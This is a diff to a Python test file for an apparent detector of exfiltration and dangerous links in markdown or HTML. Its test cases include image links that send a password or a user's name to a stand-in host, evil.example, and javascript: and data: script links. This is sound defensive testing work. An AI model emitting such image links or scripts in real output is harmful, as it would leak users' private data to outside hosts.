@@ -98,6 +98,7 @@ def test_a_pattern_that_would_explode_elsewhere_is_linear_here() -> None:
         ("EXFILTRATION", '<img src="https://evil.example/?d=the%20users%20name%20is%20anna%20schmidt">'),
         ("EXFILTRATION", "![x][r]\n\n[r]: https://evil.example/a?payload=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI"),
         ("EXFILTRATION", "![x](//evil.example/p?secret=hunter2)"),
+        ("EXFILTRATION", "![x](https://evil.example/p?" + "a=1&" * 500 + "data=hunter2)"),
         ("DANGEROUS_SCHEME", "[click](javascript:alert(1))"),
         ("DANGEROUS_SCHEME", "[click](java%73cript:alert)"),
         ("DANGEROUS_SCHEME", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'),
